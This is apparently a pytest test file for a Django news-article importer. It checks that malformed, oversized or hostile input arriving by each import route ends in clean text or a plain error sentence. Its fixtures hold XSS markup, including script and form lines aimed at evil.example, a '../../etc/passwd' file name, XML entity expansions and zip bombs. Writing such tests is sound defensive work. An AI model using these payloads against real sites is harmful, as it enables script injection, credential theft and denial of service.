"""Bad input × every way in: a readable sentence or the right text, and nothing half imported."""

import codecs
import html
import io
import json
import random
import uuid
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import models
from django.test import Client

from claims.enums import ArrivalState
from claims.fetching import Fetched
from claims.models import Anchor, Arrival, Article, AuditEvent, Claim, Revision, Source, Suggestion
from claims.services import arrivals
from tests.formats import builders

from .people import person
from .views.pages import find, page, words

pytestmark = pytest.mark.django_db

STORED: list[type[models.Model]] = [
    Article, Revision, Suggestion, Claim, Anchor, Source, AuditEvent,
]  # fmt: skip
WEB = "https://port.example/story"


@dataclass
class Came:
    """What came of it: an article, or a sentence why not."""

    article: Article | None = None
    sentence: str = ""

    @property
    def text(self) -> str:
        assert self.article is not None, self.sentence
        assert self.article.current is not None
        return self.article.current.text


# --- the ways in ----------------------------------------------------------------------------------


class Desk:
    """Carl, who brings things in by each of the ways."""

    def __init__(self, folder: Path, patch: pytest.MonkeyPatch, on_commit: Any) -> None:
        self.client = Client()
        self.client.force_login(person("carl"))
        self.folder, self.patch, self.on_commit = folder, patch, on_commit

    def shown(self, answer: Any) -> Came:
        """Read what the page says."""
        if answer.status_code == 302:
            uid = answer["Location"].split("/")[2]  # of the article, or of what to check in it
            return Came(Article.objects.select_related("current").get(uid=uid))
        assert answer.status_code == 422
        return Came(sentence=words(find(page(answer), role="alert")[0]))

    def paste(self, data: bytes) -> Came:
        """Paste ``data`` as plain text, whatever bytes they are."""
        return self.shown(self.send_raw("text", data))

    def paste_rich(self, data: bytes) -> Came:
        return self.shown(self.send_raw("html", data))

    def send_raw(self, field: str, data: bytes) -> Any:
        edge = uuid.uuid4().hex
        head = f'--{edge}\r\nContent-Disposition: form-data; name="{field}"\r\n\r\n'
        body = head.encode() + data + f"\r\n--{edge}--\r\n".encode()
        return self.client.generic(
            "POST", "/articles/import/", body, f"multipart/form-data; boundary={edge}"
        )

    def file(self, name: str) -> Callable[[bytes], Came]:
        def bring(data: bytes) -> Came:
            upload = SimpleUploadedFile(name, data)
            return self.shown(self.client.post("/articles/import/file/", {"file": upload}))

        return bring

    def address(self, data: bytes) -> Came:
        """Fetch ``data`` from a web address."""
        kind = "text/html"
        self.patch.setattr(arrivals, "fetch", lambda url: Fetched(url, 200, kind, data))
        with self.on_commit(execute=True):
            answer = self.client.post("/articles/import/address/", {"url": WEB})
        assert answer.status_code == 302
        arrival = Arrival.objects.select_related("article__current").get()
        assert arrival.state in (ArrivalState.HERE, ArrivalState.FAILED)
        assert self.client.get(arrival.get_absolute_url()).status_code in (200, 302)
        return Came(arrival.article, arrival.sentence)

    def command(self, data: bytes) -> Came:
        path = self.folder / "story.txt"
        path.write_bytes(data)
        out = io.StringIO()
        try:
            call_command("import_article", str(path), "--by", "carl", stdout=out)
        except CommandError as error:
            return Came(sentence=str(error))
        told = json.loads(out.getvalue())
        assert told["created"] is True
        return Came(Article.objects.select_related("current").get(uid=told["article"]))


@pytest.fixture
def desk(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, django_capture_on_commit_callbacks: Any
) -> Desk:
    return Desk(tmp_path, monkeypatch, django_capture_on_commit_callbacks)


def bring(desk: Desk, way: str, data: bytes) -> Came:
    """Bring ``data`` in, and hold what holds for every way and every input."""
    before = stored()
    kind = WAYS[way]
    if way.startswith("file "):
        came = desk.file(f"story.{kind}")(data)
    else:
        came = getattr(desk, way.replace(" ", "_"))(data)
    if came.article is None:
        assert stored() == before
        assert len(came.sentence.split()) >= 4
        assert came.sentence[-1] in ".:?"
        assert not any(word in came.sentence for word in ("Error", "Traceback", "0x", "codec"))
        return came
    assert "\x00" not in came.text
    assert not any("\ud800" <= char <= "\udfff" for char in came.text)
    answer = desk.client.get(came.article.get_absolute_url())
    assert answer.status_code == 200
    blocks = find(page(answer).get_element_by_id("article"), data_block=True)
    revision = came.article.current
    assert revision is not None
    assert [b.get("data-start") for b in blocks] == [str(b.start) for b in revision.block_list]
    return came


def stored() -> dict[str, int]:
    return {model.__name__: model._default_manager.count() for model in STORED}


# --- a story in each dress ------------------------------------------------------------------------


def as_html(paragraphs: Sequence[str]) -> bytes:
    body = "".join(f"<p>{html.escape(p)}</p>" for p in paragraphs)
    return (
        f'<!doctype html><html><head><meta charset="utf-8"><title>A story</title></head>'
        f"<body><article>{body}</article></body></html>"
    ).encode()


def as_rich(paragraphs: Sequence[str]) -> bytes:
    return "".join(f"<p>{html.escape(p)}</p>" for p in paragraphs).encode()


def as_word(paragraphs: Sequence[str]) -> bytes:
    def fill(document: Any) -> None:
        for paragraph in paragraphs:
            document.add_paragraph(paragraph)

    return builders.word(fill)


def as_pdf(paragraphs: Sequence[str]) -> bytes:
    def lines(paragraph: str) -> list[str]:
        found, line = [], ""
        for word in paragraph.split():
            if len(line) + len(word) > 80:
                found.append(line)
                line = ""
            line = f"{line} {word}".strip()
        return [*found, line]

    every = [lines(paragraph) for paragraph in paragraphs]
    pages = [[p] for p in every] if sum(map(len, every)) < 40 else []
    if not pages:
        flat = [line for p in every for line in p]
        pages = [[flat[at : at + 40]] for at in range(0, len(flat), 40)]
    return builders.pdf([builders.prose(p) for p in pages])


def as_text(paragraphs: Sequence[str]) -> bytes:
    return "\n\n".join(paragraphs).encode()


WAYS = {
    "paste": "txt",
    "paste rich": "rich",
    "address": "html",
    "file txt": "txt",
    "file md": "md",
    "file html": "html",
    "file docx": "docx",
    "file pdf": "pdf",
    "command": "txt",
}
DRESS: dict[str, Callable[[Sequence[str]], bytes]] = {
    "txt": as_text,
    "md": as_text,
    "rich": as_rich,
    "html": as_html,
    "docx": as_word,
    "pdf": as_pdf,
}
TEXTUAL = [way for way, kind in WAYS.items() if kind in ("txt", "md")]
MARKUP = [way for way, kind in WAYS.items() if kind in ("rich", "html")]
PASTED = ["paste", "paste rich"]  # a browser decodes the clipboard: no bytes to guess there
FILED = [way for way in WAYS if way not in PASTED]
HEAD = "Ferry line to reopen after storm"
BODY = "The ferry line across the sound will reopen on Monday, 12 days after a storm."


def dressed(way: str, *paragraphs: str) -> bytes:
    return DRESS[WAYS[way]](paragraphs)


def test_each_way_brings_in_a_plain_good_story(desk: Desk) -> None:
    for way in WAYS:
        came = bring(desk, way, dressed(way, f"{HEAD} {way}", BODY))
        assert BODY in " ".join(came.text.split()), way
        Arrival.objects.all().delete()


# --- nothing in it --------------------------------------------------------------------------------


@pytest.mark.parametrize("way", WAYS)
def test_empty_input_is_a_sentence(desk: Desk, way: str) -> None:
    assert bring(desk, way, b"").sentence


BLANK = "\n \t \r\n\u00a0\u2003\u200b\ufeff\u00ad\n—\n…"


@pytest.mark.parametrize("way", WAYS)
def test_white_space_alone_is_a_sentence(desk: Desk, way: str) -> None:
    blank = BLANK if WAYS[way] != "pdf" else " "
    assert "There is no text in it" in bring(desk, way, dressed(way, blank)).sentence or way in (
        "address",
        "file html",
        "file pdf",
    )


# --- something else -------------------------------------------------------------------------------

NOISE = random.Random(7).randbytes(4000)
WRONG = {
    "picture": b"\x89PNG\r\n\x1a\n" + NOISE,
    "photograph": b"\xff\xd8\xff\xe0" + NOISE,
    "programme": b"\x7fELF\x02\x01\x01" + NOISE,
    "film": b"\x00\x00\x00\x18ftypmp42" + NOISE,
    "old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + NOISE,
    "zip": builders.with_parts(
        builders.word(lambda document: None), {"[Content_Types].xml": b"<x/>"}
    ),
    "gzip": b"\x1f\x8b\x08\x00" + NOISE,
    "noise": NOISE,
}


@pytest.mark.parametrize("way", FILED)
@pytest.mark.parametrize("what", WRONG)
def test_another_kind_of_file_is_a_sentence(desk: Desk, way: str, what: str) -> None:
    assert bring(desk, way, WRONG[what]).sentence


@pytest.mark.parametrize("way", PASTED)
@pytest.mark.parametrize("what", WRONG)
def test_bytes_of_another_kind_pasted_do_no_harm(desk: Desk, way: str, what: str) -> None:
    bring(desk, way, WRONG[what])


@pytest.mark.parametrize("way", ["file docx", "file pdf"])
def test_a_story_under_another_name_is_told_by_its_content(desk: Desk, way: str) -> None:
    assert BODY in bring(desk, way, as_text([HEAD, BODY])).text


@pytest.mark.parametrize("name", ["story", "story.exe", "x" * 300 + ".txt", "../../etc/passwd"])
def test_a_files_name_matters_little(desk: Desk, name: str) -> None:
    came = desk.file(name)(as_text([HEAD, BODY]))
    assert BODY in came.text
    assert came.article is not None
    assert came.article.current is not None
    assert "/" not in came.article.current.origin_name


# --- broken off -----------------------------------------------------------------------------------


@pytest.mark.parametrize("way", ["file docx", "file pdf"])
@pytest.mark.parametrize("kept", [5, 40, 70, 99])
def test_a_file_broken_off_is_a_sentence_or_its_text(desk: Desk, way: str, kept: int) -> None:
    data = dressed(way, HEAD, *[BODY] * 8)
    came = bring(desk, way, data[: len(data) * kept // 100])
    if came.article:  # a PDF can be read without its end
        assert "ferry line" in came.text


@pytest.mark.parametrize("way", MARKUP)
def test_markup_broken_off_in_a_tag_keeps_the_words_before_it(desk: Desk, way: str) -> None:
    whole = dressed(way, HEAD, *[BODY] * 4)
    for cut in (b'<a href="https://x.example/?', b"<p class='", b"&am", b"<!-- ", b"<![CDATA["):
        came = bring(desk, way, whole.replace(b"</article></body></html>", b"") + cut)
        assert BODY in came.text
        Article.objects.update(current=None)
        Revision.objects.all().delete()
        Arrival.objects.all().delete()


@pytest.mark.parametrize("way", TEXTUAL)
def test_text_broken_off_in_a_letter_keeps_the_words_before_it(desk: Desk, way: str) -> None:
    data = as_text([HEAD, BODY, "The café"])
    assert BODY in bring(desk, way, data[:-1]).text


# --- too much of it -------------------------------------------------------------------------------

HUGE = 20 * 1024 * 1024


def huge(way: str) -> bytes:
    """Return 20 MB in the dress of this way."""
    filler = (BODY + "\n\n").encode() * (HUGE // (len(BODY) + 2) + 1)
    data = dressed(way, HEAD, BODY)
    if WAYS[way] == "docx":
        noise = random.Random(1).randbytes(HUGE)
        out = io.BytesIO(data)
        with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
            archive.writestr("word/media/image1.png", noise)
        return out.getvalue()
    if WAYS[way] == "pdf":
        return data + b"\n%" + b"x" * HUGE
    return data + filler


@pytest.mark.parametrize("way", WAYS)
def test_twenty_megabytes_are_a_sentence(desk: Desk, way: str) -> None:
    sentence = bring(desk, way, huge(way)).sentence
    assert "10 MB" in sentence or "Split it and import the parts" in sentence


@pytest.mark.parametrize("way", [w for w in WAYS if WAYS[w] != "docx"])
def test_more_words_than_any_article_has_are_a_sentence(desk: Desk, way: str) -> None:
    words_ = 10_000 if WAYS[way] == "pdf" else 220_000
    came = bring(desk, way, dressed(way, *["seven words of a very long piece"] * (words_ // 7)))
    if WAYS[way] != "pdf":
        assert "Split it and import the parts you need." in came.sentence


@pytest.mark.parametrize("way", WAYS)
def test_five_thousand_words_on_one_line_are_one_paragraph(desk: Desk, way: str) -> None:
    # Words full of facts once: what the engine and the page make of them has nothing to do with
    # the way they came.
    sentence = "Ferry {0} carried {0}7 people." if way == "paste" else "So it was once more."
    line = " ".join(sentence.format(n) for n in range(1000))
    came = bring(desk, way, dressed(way, HEAD, line))
    assert " ".join(came.text.split()).endswith(line[-200:])
    if WAYS[way] != "pdf":
        assert line in came.text


# --- hostile markup -------------------------------------------------------------------------------

HOSTILE = f"""
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
<style>p {{ display: none }} @import url(https://evil.example/x.css);</style>
<script>alert("stolen")</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<svg onload="alert(1)"><script>alert(2)</script><text>drawn</text></svg>
<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">
<form action="https://evil.example"><input name="password" value="typed"><button>Go</button></form>
<h1 onclick="alert(3)" style="position:fixed">{HEAD}</h1>
<p id="panel" data-hotkey="u" hx-post="/undo/">{BODY}</p>
<p>It cost <a href="javascript:alert(4)">3.1 million</a>, <a href="data:text/html,x">or so</a>,
<a href="https://good.example/a" onmouseover="alert(5)">they say</a>.</p>
<img src=x onerror=alert(6)><math><mtext><img src=x onerror=alert(7)></mtext></math>
<!--[if IE]><script>alert(8)</script><![endif]--><noscript><p title="</noscript><script>alert(9)">
</noscript><template><p>hidden words</p></template><textarea><script>x</script></textarea>
"""


@pytest.mark.parametrize("way", MARKUP)
def test_hostile_markup_leaves_its_words_alone(desk: Desk, way: str) -> None:
    data = HOSTILE.encode()
    if WAYS[way] == "html":
        data = as_html([]).replace(b"<article>", b"<article>" + data)
    came = bring(desk, way, data)
    assert BODY in came.text
    for evil in ("alert(", "evil.example", "display: none", "typed", "onclick"):
        assert evil not in came.text, evil
    assert came.article is not None
    assert came.article.current is not None
    assert {link["url"] for link in came.article.current.links} <= {"https://good.example/a"}
    shown = desk.client.get(came.article.get_absolute_url()).content.decode()
    sheet = shown[shown.index('id="article"') : shown.index("</article>")]
    assert "alert(" not in sheet
    assert "evil.example" not in sheet


def test_markup_in_markdown_never_becomes_markup_on_the_page(desk: Desk) -> None:
    came = bring(desk, "file md", f"# {HEAD}\n\n{BODY}\n\n{HOSTILE}".encode())
    assert BODY in came.text
    assert came.article is not None
    shown = page(desk.client.get(came.article.get_absolute_url())).get_element_by_id("article")
    assert {element.tag for element in find(shown)} <= {"div", "p", "h1", "h2", "mark", "a"}
    assert all(str(a.get("href")).startswith("/articles/") for a in find(shown, "a"))


@pytest.mark.parametrize("way", [w for w in WAYS if WAYS[w] in ("txt", "docx", "pdf")])
def test_markup_in_plain_words_is_shown_as_words(desk: Desk, way: str) -> None:
    evil = 'She wrote <script>alert("1")</script> and &lt;b&gt; on the wall of the port.'
    came = bring(desk, way, dressed(way, HEAD, BODY, evil))
    assert evil in " ".join(came.text.split())
    assert came.article is not None
    shown = page(desk.client.get(came.article.get_absolute_url())).get_element_by_id("article")
    assert find(shown, "script") == []
    assert evil in words(shown)


@pytest.mark.parametrize("way", MARKUP)
@pytest.mark.parametrize(
    "tangle",
    [
        "<div>" * 50_000,
        "<b><i>" * 50_000,
        "<table><tr><td>" * 20_000,
        "<ul><li>" * 20_000,
        "<p " + "a='1' " * 50_000 + ">",
        "<" * 200_000,
        "&lt;" * 200_000,
        "</p>" * 100_000,
        "<!--" * 50_000,
        "<a href='https://x.example'>" * 50_000,
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>&b;&b;' * 100,
    ],
    ids=lambda tangle: tangle[:12],
)
def test_tangled_markup_is_a_sentence_or_its_words(desk: Desk, way: str, tangle: str) -> None:
    story = "".join(f"<p>{p}</p>" for p in (HEAD, BODY, BODY))
    bring(desk, way, f"<html><body>{story}{tangle}<p>{BODY}</p>".encode())


# --- bombs ----------------------------------------------------------------------------------------


def test_a_word_file_that_unpacks_to_far_too_much_is_a_sentence(desk: Desk) -> None:
    good = as_word([HEAD, BODY])
    inner = builders.member(good, "word/document.xml")
    for size in (30, 120):
        bomb = inner.replace(b"</w:body>", b" " * (size * 1024 * 1024) + b"</w:body>")
        data = builders.with_parts(good, {"word/document.xml": bomb})
        assert len(data) < 1024 * 1024
        assert "unpacks to far more" in bring(desk, "file docx", data).sentence


def test_a_word_file_that_lies_about_its_size_is_a_sentence(desk: Desk) -> None:
    good = as_word([HEAD, BODY])
    inner = builders.member(good, "word/document.xml")
    bomb = inner.replace(b"</w:body>", b" " * (30 * 1024 * 1024) + b"</w:body>")
    data = bytearray(builders.with_parts(good, {"word/document.xml": bomb}))
    true_size = len(bomb).to_bytes(4, "little")
    while (at := data.find(true_size)) >= 0:
        data[at : at + 4] = len(inner).to_bytes(4, "little")
    assert bring(desk, "file docx", bytes(data)).sentence


def test_entities_in_a_word_file_are_a_sentence(desk: Desk) -> None:
    good = as_word([HEAD, BODY])
    inner = builders.member(good, "word/document.xml")
    laughs = b'<!DOCTYPE z [<!ENTITY a "haha"><!ENTITY b "&a;&a;">]>'
    evil = inner.replace(b"?>", b"?>" + laughs, 1).replace(BODY.encode(), b"&b;")
    data = builders.with_parts(good, {"word/document.xml": evil})
    assert bring(desk, "file docx", data).sentence


def test_a_word_file_full_of_parts_is_a_sentence(desk: Desk) -> None:
    parts = {f"word/part{n}.xml": b"<x/>" for n in range(5000)}
    data = builders.with_parts(as_word([HEAD, BODY]), parts)
    assert bring(desk, "file docx", data).sentence


# --- characters -----------------------------------------------------------------------------------


@pytest.mark.parametrize("way", [w for w in WAYS if WAYS[w] not in ("docx", "pdf")])
def test_nul_characters_never_reach_the_text(desk: Desk, way: str) -> None:
    data = dressed(way, HEAD, BODY).replace(b"ferry", b"fe\x00rry") + b"\x00"
    came = bring(desk, way, data)
    if came.article:
        assert "ferry line" in came.text or "fe\ufffdrry" in came.text


@pytest.mark.parametrize("way", ["file docx"])
def test_a_word_file_with_a_nul_in_its_words_is_a_sentence(desk: Desk, way: str) -> None:
    good = as_word([HEAD, BODY])
    inner = builders.member(good, "word/document.xml").replace(b"ferry", b"fe\x00rry")
    came = bring(desk, way, builders.with_parts(good, {"word/document.xml": inner}))
    assert came.sentence


SPELLED = "Die Fähre über den Sund fährt wieder, sagt Café-Wirtin Åsa Müller am Freitag."
ENCODED = {
    "utf-8 with a mark": codecs.BOM_UTF8 + f"{HEAD}\n\n{SPELLED}".encode(),
    "utf-16 with a mark": f"{HEAD}\n\n{SPELLED}".encode("utf-16"),
    "utf-16 without one": f"{HEAD}\n\n{SPELLED}".encode("utf-16-le"),
    "utf-32": f"{HEAD}\n\n{SPELLED}".encode("utf-32"),
    "windows-1252": f"{HEAD}\n\n{SPELLED}".encode("cp1252"),
    "two in one": f"{HEAD}\n\n{SPELLED}".encode() + b"\n\n" + SPELLED.encode("cp1252"),
}


@pytest.mark.parametrize("way", [w for w in TEXTUAL if w != "paste"])
@pytest.mark.parametrize("encoding", ENCODED)
def test_text_in_any_encoding_is_read(desk: Desk, way: str, encoding: str) -> None:
    came = bring(desk, way, ENCODED[encoding])
    assert SPELLED in came.text
    assert "\ufffd" not in came.text


@pytest.mark.parametrize("way", [w for w in MARKUP if w != "paste rich"])
@pytest.mark.parametrize(
    ("declared", "real"),
    [
        ("utf-8", "cp1252"),
        ("iso-8859-1", "utf-8"),
        ("windows-1252", "cp1252"),
        ("nonsense", "utf-8"),
        ("utf-16", "utf-8"),
        ("rot13", "utf-8"),
        ("utf-7", "utf-8"),
    ],
)
def test_a_page_that_lies_about_its_encoding_is_read(
    desk: Desk, way: str, declared: str, real: str
) -> None:
    body = f"<h1>{HEAD}</h1>" + f"<p>{SPELLED}</p>" * 3
    page_ = f"<!doctype html><meta charset={declared}><body><article>{body}</article>"
    assert SPELLED in bring(desk, way, page_.encode(real)).text


@pytest.mark.parametrize("way", PASTED)
def test_bytes_that_are_no_text_are_replaced_in_what_is_pasted(desk: Desk, way: str) -> None:
    came = bring(desk, way, dressed(way, HEAD, BODY) + b" caf\xe9 \xff\xfe \xed\xa0\x80")
    assert BODY in came.text


RIGHT_TO_LEFT = (
    "العبّارة تعود إلى العمل",
    "قالت مديرة الميناء إن العبّارة ستعود يوم الاثنين بعد ١٢ يومًا من العاصفة.",
    "‏״לא נפתח יום אחד מוקדם מדי״, אמרה מנהלת הנמל \u2067Ines Volk\u2069 ביום שישי.",
)


@pytest.mark.parametrize("way", [w for w in WAYS if WAYS[w] != "pdf"])
def test_writing_from_right_to_left_keeps_its_letters(desk: Desk, way: str) -> None:
    came = bring(desk, way, dressed(way, *RIGHT_TO_LEFT))
    for line in RIGHT_TO_LEFT[1:]:
        assert line in came.text
    assert came.article is not None
    shown = page(desk.client.get(came.article.get_absolute_url()))
    blocks = find(shown.get_element_by_id("article"), data_block=True)
    assert {block.get("dir") for block in blocks} == {"auto"}


BEYOND = (
    "Ferry 🛳️ line opens 🎉",
    "The 👩‍👩‍👧‍👦 of 𝕁𝕠𝕙𝕟 𝟙𝟚 paid 3.1 million crowns 🇩🇰 on Monday, said 𠜎 Volk.",
    "Z̷̢͝a̸̛͝l̴͘g̵̈́o̷͐ wrote 12 words, and 40 per cent of them were 😀😀😀.",
)


@pytest.mark.parametrize("way", [w for w in WAYS if WAYS[w] != "pdf"])
def test_letters_beyond_the_basic_plane_keep_their_places(desk: Desk, way: str) -> None:
    came = bring(desk, way, dressed(way, *BEYOND))
    for line in BEYOND[1:]:
        assert line in came.text
    assert came.article is not None
    start = came.text.index("3.1 million crowns 🇩🇰")
    sent = {"exact": "3.1 million crowns 🇩🇰", "start": start}
    answer = desk.client.post(f"{came.article.get_absolute_url()}claims/", sent)
    assert answer.status_code == 302
    anchor = Anchor.objects.get()
    assert came.text[anchor.start : anchor.end] == sent["exact"]


HALVES = "Half &#xD83D; and &#55357;&#56832; and &#0; and &#x110000; and &#xFFFE; a letter."


@pytest.mark.parametrize("way", [*MARKUP, "file md"])
def test_halves_of_letters_written_as_entities_are_no_letters(desk: Desk, way: str) -> None:
    data = dressed(way, HEAD, BODY, "HALVES", BODY).replace(b"HALVES", HALVES.encode())
    came = bring(desk, way, data)
    assert "Half" in came.text
    assert "a letter." in came.text


@pytest.mark.parametrize("way", ["address", "file html"])
def test_halves_of_letters_in_a_pages_data_are_no_letters(desk: Desk, way: str) -> None:
    data = (
        '<script type="application/ld+json">{"@type": "NewsArticle", "headline": "Half \\ud83d",'
        ' "author": {"name": "A\\ud83d\\u0000da"}, "datePublished": "99999-13-45"}</script>'
    )
    story = as_html([HEAD, BODY, BODY]).replace(b"</head>", data.encode() + b"</head>")
    came = bring(desk, way, story)
    assert BODY in came.text
    assert came.article is not None
    told = came.article.title + came.article.byline
    assert not any("\ud800" <= char <= "\udfff" or char == "\x00" for char in told)


def test_a_word_file_with_half_a_letter_is_a_sentence(desk: Desk) -> None:
    good = as_word([HEAD, BODY])
    inner = builders.member(good, "word/document.xml").replace(b"ferry", b"fe&#xD83D;rry")
    came = bring(desk, "file docx", builders.with_parts(good, {"word/document.xml": inner}))
    assert came.sentence


@pytest.mark.parametrize("way", WAYS)
def test_titles_and_links_too_long_to_keep_do_not_stop_a_story(desk: Desk, way: str) -> None:
    head = "Ferry " * 400
    data = dressed(way, head.strip(), BODY)
    if WAYS[way] in ("rich", "html"):
        long = (
            f'<p>See <a href="https://x.example/{"y" * 5000}" title="{"t" * 5000}">the budget</a>'
        )
        data = data.replace(b"</article>", b"") + long.encode()
    came = bring(desk, way, data)
    assert came.article is not None
    assert len(came.article.title) <= 300


# --- nothing half imported ------------------------------------------------------------------------


@pytest.mark.parametrize("way", ["paste", "file docx", "command"])
def test_a_failure_in_the_middle_leaves_nothing_behind(
    desk: Desk, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    def broken(**kwargs: Any) -> None:
        raise RuntimeError("in the middle")

    monkeypatch.setattr("claims.services.reading.propose", broken)
    before = stored()
    with pytest.raises(RuntimeError, match="in the middle"):
        bring(desk, way, dressed(way, HEAD, BODY))
    assert stored() == before
